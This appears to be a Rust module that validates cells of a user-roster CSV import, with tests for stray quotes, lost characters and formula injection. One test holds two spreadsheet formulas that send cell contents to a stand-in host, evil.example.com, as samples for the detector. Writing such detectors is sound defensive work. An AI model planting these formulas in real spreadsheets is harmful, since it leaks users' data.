//! Validation rules for one record. Pure functions of the cell values; duplicates need the
//! whole roster and live in [`crate::roster::dup_key`].
//!
//! To add a rule: add a [`Code`] in `finding.rs` (and its row in the README's table), then
//! emit it from the check for its field below.

pub(crate) mod address;
pub(crate) mod sfid;

use crate::roster::{Code, Field, Finding};

/// Cells longer than this are rejected outright (a 5 MB name is a broken export, not a name).
pub const MAX_CELL_CHARS: usize = 1000;

/// Characters that are invisible when pasted: zero-width ones and the byte-order mark.
fn is_zero_width(c: char) -> bool {
    matches!(
        c,
        '\u{200B}' | '\u{200C}' | '\u{200D}' | '\u{2060}' | '\u{FEFF}'
    )
}

/// Spaces that look like a space but do not match one.
fn is_nonbreaking(c: char) -> bool {
    matches!(c, '\u{00A0}' | '\u{2007}' | '\u{202F}')
}

fn is_line_break(c: char) -> bool {
    matches!(c, '\n' | '\r' | '\u{2028}' | '\u{2029}' | '\u{85}')
}

/// Trims what a paste leaves around a value: any Unicode white space and zero-width characters.
pub fn trim(v: &str) -> &str {
    match (v.as_bytes().first(), v.as_bytes().last()) {
        // Printable ASCII at both ends: nothing to trim (the common case, no char decoding).
        (Some(0x21..=0x7e), Some(0x21..=0x7e)) => v,
        _ => v.trim_matches(|c: char| c.is_whitespace() || is_zero_width(c)),
    }
}

/// True when a spreadsheet would treat the cell as a formula (OWASP CSV injection).
pub fn is_formula_like(v: &str) -> bool {
    matches!(
        v.as_bytes().first(),
        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r')
    )
}

/// True only when [`check_cell`] would find nothing in `raw`: a quick look at the bytes that
/// settles the great majority of cells. `false` means "look closer", not "wrong".
pub fn is_clean(field: Field, raw: &[u8]) -> bool {
    plain_ends(raw)
        && match field {
            Field::FullName => is_clean_name(raw),
            Field::SalesforceUserId => sfid::is_clean(raw),
            Field::SalesforceLogin => is_clean_sf_login(raw).is_some(),
            Field::Office365Login | Field::Office365Email => address::clean_case(raw).is_some(),
        }
}

/// The part of [`is_clean`] every field shares: printable ends (nothing to trim), no formula
/// trigger, no `'` (which would undo our neutralising), not absurdly long.
pub fn plain_ends(raw: &[u8]) -> bool {
    let (Some(&first), Some(&last)) = (raw.first(), raw.last()) else {
        return false;
    };
    (0x21..=0x7e).contains(&first)
        && (0x21..=0x7e).contains(&last)
        && !matches!(first, b'=' | b'+' | b'-' | b'@' | b'\'')
        && raw.len() <= MAX_CELL_CHARS
}

/// [`is_clean`]'s test of a full name with [`plain_ends`]: printable ASCII throughout, and no
/// `?` (which may stand for a lost letter: the full rules decide).
pub fn is_clean_name(raw: &[u8]) -> bool {
    // A fold, not `all`: no early exit, so it compiles to a vector loop.
    raw.iter()
        .fold(true, |ok, &c| ok & (0x20..0x7f).contains(&c) & (c != b'?'))
}

/// [`is_clean`]'s test of a Salesforce login with [`plain_ends`], with
/// [`address::clean_case`]'s answer.
pub fn is_clean_sf_login(raw: &[u8]) -> Option<bool> {
    if raw.len() > address::SF_LOGIN_MAX {
        return None;
    }
    address::clean_case(raw)
}

/// `wrong-field-count`: the row starting on `line` has `found` fields where the header has
/// `expected`. When a value spans lines, a stray quote most likely made the rows after it part
/// of this one: say so, as those users would otherwise be missing without a word.
pub fn wrong_field_count(found: usize, expected: usize, line: u64, cells: [&str; 5]) -> Finding {
    let spanned = cells
        .iter()
        .map(|c| crate::roster::import::line_breaks(c.as_bytes(), false))
        .max()
        .unwrap_or(0);
    let s = if found == 1 { "" } else { "s" };
    let message = if spanned > 0 {
        let (next, last) = (line + 1, line + spanned);
        let lines = if next == last {
            format!("line {last}")
        } else {
            format!("lines {next}-{last}")
        };
        format!(
            "{found} field{s} where the header has {expected}, and a value runs on to line {last}: \
             a stray \" probably made {lines} part of this row, so the users there are missing. \
             Fix the quote in the file and import it again"
        )
    } else {
        format!(
            "{found} field{s} where the header has {expected}: a stray delimiter or quote? Check \
             the row in the file"
        )
    };
    Finding {
        field: None,
        code: Code::WrongFieldCount,
        message,
        fix: None,
        first_row: None,
    }
}

/// Checks every cell of one record.
pub fn check_record(cells: [&str; 5], out: &mut Vec<Finding>) {
    for field in Field::ALL {
        check_cell(field, cells[field.index()], out);
    }
}

/// How many lines of a multi-line `raw` look like rows of a roster file (an address and at
/// least three of one delimiter; a row has five fields): what a stray quote swallows. A name
/// broken over two lines has none, nor do two addresses on two lines.
fn swallowed_rows(raw: &str) -> usize {
    if !raw.bytes().any(|b| b == b'\n' || b == b'\r') {
        return 0;
    }
    let looks_like_row = |l: &str| {
        l.contains('@')
            && [b',', b';', b'\t', b'|']
                .iter()
                .any(|d| l.bytes().filter(|b| b == d).count() >= 3)
    };
    raw.split(['\r', '\n'])
        .filter(|l| looks_like_row(l))
        .count()
}

/// Checks one cell, appending its findings.
pub fn check_cell(field: Field, raw: &str, out: &mut Vec<Finding>) {
    let swallowed = swallowed_rows(raw);
    if swallowed > 0 {
        // The value's own checks (and their fixes, e.g. joining the lines) would mislead.
        out.push(Finding::new(
            field,
            Code::StrayQuote,
            format!(
                "runs over several lines, {swallowed} of which look like rows of the file: a \
                 stray \" probably joined them into this value, so those users are missing. Fix \
                 the quote in the file and import it again"
            ),
        ));
        return;
    }
    if raw.len() > MAX_CELL_CHARS && raw.chars().count() > MAX_CELL_CHARS {
        out.push(Finding::new(
            field,
            Code::TooLong,
            format!(
                "{} characters (at most {MAX_CELL_CHARS}): the export looks broken; type the value again",
                raw.chars().count()
            ),
        ));
        return;
    }
    let value = trim(raw);
    if value.is_empty() {
        out.push(Finding::new(
            field,
            Code::MissingValue,
            format!("{} is required", field.title()),
        ));
        return;
    }
    if is_formula_like(raw) {
        out.push(Finding::new(
            field,
            Code::FormulaLike,
            format!(
                "starts with '{}', so a spreadsheet may run it as a formula; check the value",
                raw.chars().next().unwrap_or_default().escape_default()
            ),
        ));
    }
    if value.len() != raw.len() {
        out.push(
            Finding::new(
                field,
                Code::SurroundingWhitespace,
                "spaces around the value",
            )
            .with_fix(value),
        );
    }
    let lost = lost_characters(field, value, out);
    // Printable ASCII has none of the inner debris below: skip the char walk.
    if !value.bytes().all(|b| (0x20..0x7f).contains(&b)) && inner_debris(field, value, out) {
        return;
    }
    if lost {
        // The letters are gone: no check of what is left can make the value right.
        return;
    }
    match field {
        Field::FullName => {}
        Field::SalesforceUserId => sfid::check(value, out),
        Field::SalesforceLogin | Field::Office365Login | Field::Office365Email => {
            address::check(field, value, out)
        }
    }
}

/// The remedy for lost characters: the letters are not in the file, so only a new export helps.
const REEXPORT: &str = "the letters are not in the file, so nothing here can restore them: save \
                        the roster from the spreadsheet as \"CSV UTF-8\" (or \"Unicode Text\") and \
                        import it again";

/// `lost-characters`: letters an encoding could not hold, replaced before the file reached us.
/// U+FFFD (what a decoder puts for bytes it could not read) anywhere; and, except in IDs
/// (ASCII, so never lost this way: a `?` there is a typo, `sfid-format`), a `?` next to a
/// letter or another `?`: Excel and LibreOffice write `?` for every letter the chosen code
/// page lacks (`Łukasz Żółć` saved as Windows-1252 is `?ukasz ?ó??`). Real names and logins
/// have no `?`; a lone one between spaces, or one starting a URL query in a pasted formula,
/// is left alone. Returns true when found.
fn lost_characters(field: Field, value: &str, out: &mut Vec<Finding>) -> bool {
    let check_qmark = field != Field::SalesforceUserId && value.contains('?');
    if !(check_qmark || (!value.is_ascii() && value.contains('\u{FFFD}'))) {
        return false;
    }
    let chars: Vec<char> = value.chars().collect();
    let wordy = |i: Option<usize>| {
        i.and_then(|i| chars.get(i))
            .is_some_and(|&c| c == '?' || c.is_alphabetic())
    };
    // `?name=` starts a URL's query (`=HYPERLINK("http://x.example/?id=1")`), not a word.
    let query = |i: usize| {
        let name = chars[i + 1..]
            .iter()
            .take_while(|c| c.is_ascii_alphanumeric() || **c == '_')
            .count();
        name > 0 && chars.get(i + 1 + name) == Some(&'=')
    };
    let found = chars.iter().enumerate().find(|&(i, &c)| {
        c == '\u{FFFD}'
            || (c == '?'
                && check_qmark
                && (wordy(i.checked_sub(1)) || wordy(Some(i + 1)))
                && !query(i))
    });
    let Some((i, &c)) = found else {
        return false;
    };
    let at = i + 1;
    let what = if c == '?' {
        format!(
            "'?' at character {at} stands for a letter: the file was saved in an encoding that \
             could not hold it (plain \"CSV\" in a Windows code page?)"
        )
    } else {
        format!(
            "'\u{FFFD}' (U+FFFD) at character {at} is what a program writes for bytes it could \
             not read as text: characters were lost before the file reached us"
        )
    };
    out.push(Finding::new(
        field,
        Code::LostCharacters,
        format!("{what}; {REEXPORT}"),
    ));
    true
}

/// Line breaks, invisible and control characters inside a value. Returns true when the value
/// is not valid as it stands (so the field's own checks would only repeat the problem).
fn inner_debris(field: Field, value: &str, out: &mut Vec<Finding>) -> bool {
    let is_name = field == Field::FullName;
    let (mut breaks, mut invisible, mut control) = (false, false, false);
    for c in value.chars() {
        if is_line_break(c) {
            breaks = true;
        } else if is_zero_width(c) || is_nonbreaking(c) {
            invisible = true;
        } else if c.is_control() {
            control = true;
        }
    }
    if !(breaks || invisible || control) {
        return false;
    }
    // One cleaned value answers every kind of debris at once.
    let cleaned = clean(value, is_name);
    let mut fix = Some(cleaned.clone());
    if !is_name {
        let mut probe = Vec::new();
        check_cell(field, &cleaned, &mut probe);
        if probe
            .iter()
            .any(|f| f.code.severity() == crate::roster::Severity::Error)
        {
            fix = None;
        }
    }
    let mut push = |code: Code, msg: &str| {
        let mut f = Finding::new(field, code, msg);
        f.fix = fix.clone();
        out.push(f);
    };
    if breaks && is_name {
        push(Code::NameLineBreak, "line break inside the name");
    } else if breaks {
        push(Code::ControlChar, "line break inside the value");
    }
    if invisible {
        push(
            Code::InvisibleChar,
            "zero-width or non-breaking space inside the value (pasted from a web page or document?)",
        );
    }
    if control {
        push(Code::ControlChar, "control character inside the value");
    }
    // A name with only a line break is still a usable name: that one is a warning.
    !(is_name && !invisible && !control)
}

/// The value with line breaks and odd spaces made plain: names keep word gaps as one space,
/// other fields lose them entirely.
fn clean(value: &str, is_name: bool) -> String {
    let mut out = String::with_capacity(value.len());
    let mut gap = false;
    for c in value.chars() {
        let spacey = is_line_break(c) || is_nonbreaking(c) || c == '\t' || c == ' ';
        if is_zero_width(c) || (c.is_control() && !spacey) {
            continue;
        }
        if spacey {
            if is_name && !gap {
                out.push(' ');
            }
            gap = true;
            continue;
        }
        gap = false;
        out.push(c);
    }
    let trimmed = trim(&out);
    if trimmed.len() == out.len() {
        out
    } else {
        trimmed.to_string()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn run(field: Field, v: &str) -> Vec<(Code, Option<String>)> {
        let mut out = Vec::new();
        check_cell(field, v, &mut out);
        out.into_iter().map(|f| (f.code, f.fix)).collect()
    }

    #[test]
    fn wrong_field_count_names_the_lines_a_stray_quote_swallowed() {
        let plain = wrong_field_count(4, 5, 7, ["a", "b", "c", "d", ""]);
        assert_eq!(plain.code, Code::WrongFieldCount);
        assert!(
            plain.message.contains("stray delimiter or quote"),
            "{}",
            plain.message
        );
        let one = wrong_field_count(3, 5, 7, ["a", "b\r\nc", "", "", ""]);
        assert!(one.message.contains("runs on to line 8"), "{}", one.message);
        assert!(one.message.contains("made line 8 part"), "{}", one.message);
        let many = wrong_field_count(1, 5, 7, ["x\ny\nz\nw", "", "", "", ""]);
        assert!(
            many.message.contains("made lines 8-10 part"),
            "{}",
            many.message
        );
        // Lines counted as the readers count them: a lone CR (classic Mac) ends one too.
        let mac = wrong_field_count(1, 5, 7, ["x\ry\r\nz", "", "", "", ""]);
        assert!(
            mac.message.contains("made lines 8-9 part"),
            "{}",
            mac.message
        );
    }

    #[test]
    fn a_value_holding_rows_is_a_stray_quote_and_nothing_else() {
        let row = "Cy,cy@acme.com,005Hs00000AbCdEIAV,cy@acme.com,cy@acme.com";
        let v = format!("Bob,bob@acme.com,x,y,z\r\n{row}\r\nQuoted\"");
        assert_eq!(run(Field::FullName, &v), vec![(Code::StrayQuote, None)]);
        let tabs = format!("Bob\n{}", row.replace(',', "\t"));
        assert_eq!(run(Field::Office365Login, &tabs)[0].0, Code::StrayQuote);
        let mac = format!("Bob,bob@acme.com,x,y,z\r{row}\rQuoted\"");
        assert_eq!(run(Field::FullName, &mac), vec![(Code::StrayQuote, None)]);
        // Not rows: a name over two lines, two addresses on two lines.
        assert_eq!(
            run(Field::FullName, "Mohammed\nAli")[0].0,
            Code::NameLineBreak
        );
        assert!(!run(Field::Office365Email, "a@acme.com,\nb@acme.com")
            .iter()
            .any(|(c, _)| *c == Code::StrayQuote));
    }

    #[test]
    fn lost_letters_are_an_error_without_a_fix() {
        // What LibreOffice and Excel write for names saved as Windows-1252.
        for name in ["?ukasz ?ó??", "Ji?í Dvo?ák", "?? ??", "Zo?", "Anna ?mith"] {
            assert_eq!(
                run(Field::FullName, name),
                vec![(Code::LostCharacters, None)],
                "{name}"
            );
        }
        assert_eq!(
            run(Field::Office365Email, "?ukasz.?ol?@acme.com"),
            vec![(Code::LostCharacters, None)]
        );
        assert_eq!(
            run(Field::SalesforceLogin, "jan@?od?.pl"),
            vec![(Code::LostCharacters, None)]
        );
        // U+FFFD in any field, IDs included.
        for field in Field::ALL {
            let found = run(field, "Jos\u{FFFD}@acme.com");
            assert_eq!(found, vec![(Code::LostCharacters, None)], "{field:?}");
        }
        // A `?` in an ID is a typo, as before.
        assert_eq!(
            run(Field::SalesforceUserId, "005Hs?0000AbCdE")[0].0,
            Code::SfidFormat
        );
        // Other problems are still reported, their fixes too (the letters stay lost).
        assert_eq!(
            run(Field::FullName, " Ji?í"),
            vec![
                (Code::SurroundingWhitespace, Some("Ji?í".into())),
                (Code::LostCharacters, None)
            ]
        );
        let mut out = Vec::new();
        check_cell(Field::FullName, "Ji?í Dvo?ák", &mut out);
        assert!(out[0].message.contains("character 3"), "{}", out[0].message);
        assert!(out[0].message.contains("CSV UTF-8"), "{}", out[0].message);
    }

    #[test]
    fn a_lone_question_mark_is_not_a_lost_letter() {
        assert!(run(Field::FullName, "Jane Doe (?)").is_empty());
        assert!(run(Field::FullName, "Jane ? Doe").is_empty());
        // A URL's query in a formula (the benchmark generator's CSV-injection names).
        for v in [
            "=HYPERLINK(\"http://evil.example.com/?leak=\"&B2,\"Click for details\")",
            "=IMPORTXML(CONCAT(\"http://evil.example.com/?v=\",C2),\"//a\")",
        ] {
            assert_eq!(
                run(Field::FullName, v),
                vec![(Code::FormulaLike, None)],
                "{v}"
            );
        }
        // The benchmark generator's valid tricky names.
        for name in [
            "Ælfgifu Þórsdóttir",
            "山田 太郎",
            "محمد العلي",
            "O'Brien, Pat",
            "Zoë \"Z\" Brontë",
        ] {
            assert!(run(Field::FullName, name).is_empty(), "{name}");
        }
    }

    #[test]
    fn missing_and_blank() {
        assert_eq!(run(Field::FullName, ""), vec![(Code::MissingValue, None)]);
        assert_eq!(
            run(Field::Office365Email, "   "),
            vec![(Code::MissingValue, None)]
        );
    }

    #[test]
    fn surrounding_whitespace_is_a_warning_with_fix() {
        assert_eq!(
            run(Field::Office365Login, " jane@acme.com\t"),
            vec![(Code::SurroundingWhitespace, Some("jane@acme.com".into()))]
        );
        assert_eq!(
            run(Field::FullName, "\u{a0}Jane Doe"),
            vec![(Code::SurroundingWhitespace, Some("Jane Doe".into()))]
        );
    }

    #[test]
    fn name_line_break_is_a_warning() {
        assert_eq!(
            run(Field::FullName, "Jane\r\nDoe"),
            vec![(Code::NameLineBreak, Some("Jane Doe".into()))]
        );
    }

    #[test]
    fn invisible_characters_inside_are_errors() {
        assert_eq!(
            run(Field::Office365Email, "jane\u{200b}@acme.com"),
            vec![(Code::InvisibleChar, Some("jane@acme.com".into()))]
        );
        assert_eq!(
            run(Field::FullName, "Jane\u{a0}Doe"),
            vec![(Code::InvisibleChar, Some("Jane Doe".into()))]
        );
    }

    #[test]
    fn control_characters_are_errors() {
        assert_eq!(
            run(Field::FullName, "Ja\u{7}ne"),
            vec![(Code::ControlChar, Some("Jane".into()))]
        );
    }

    #[test]
    fn formula_like_cells_are_flagged() {
        let found = run(Field::FullName, "=HYPERLINK(\"http://x\",\"a\")");
        assert_eq!(found, vec![(Code::FormulaLike, None)]);
        assert!(run(Field::FullName, "@SUM(1)")
            .iter()
            .any(|f| f.0 == Code::FormulaLike));
        assert!(run(Field::FullName, "\tJane")
            .iter()
            .any(|f| f.0 == Code::FormulaLike));
    }

    proptest::proptest! {
        /// The fast path never hides a finding.
        #[test]
        fn clean_means_no_findings(
            v in "[ a-zA-Z0-9.@'=+;<>:?-]{0,30}|005[a-zA-Z0-9]{12,15}",
            f in 0usize..5,
        ) {
            let field = Field::ALL[f];
            if is_clean(field, v.as_bytes()) {
                let mut out = Vec::new();
                check_cell(field, &v, &mut out);
                proptest::prop_assert!(out.is_empty(), "{:?} {:?}: {:?}", field, v, out);
            }
        }
    }

    #[test]
    fn clean_fast_path_accepts_ordinary_cells() {
        assert!(is_clean(Field::FullName, b"Jane O'Brien-Smith"));
        assert!(is_clean(Field::Office365Email, b"jane.doe@acme.com"));
        assert!(is_clean(
            Field::SalesforceUserId,
            sfid::to_18("005Hs00000AbCdE").as_bytes()
        ));
        assert!(!is_clean(Field::SalesforceUserId, b"005Hs00000AbCdE"));
        assert!(!is_clean(Field::FullName, b" Jane"));
        assert!(!is_clean(Field::FullName, "Zoë".as_bytes()));
        assert!(!is_clean(Field::FullName, b"Zo?"));
        assert!(!is_clean(Field::Office365Login, b"zo?@acme.com"));
        assert!(!is_clean(Field::SalesforceLogin, b"zo?@acme.com"));
    }

    #[test]
    fn absurd_values_are_errors() {
        let huge = "x".repeat(5 * 1024 * 1024);
        assert_eq!(run(Field::FullName, &huge), vec![(Code::TooLong, None)]);
    }
}
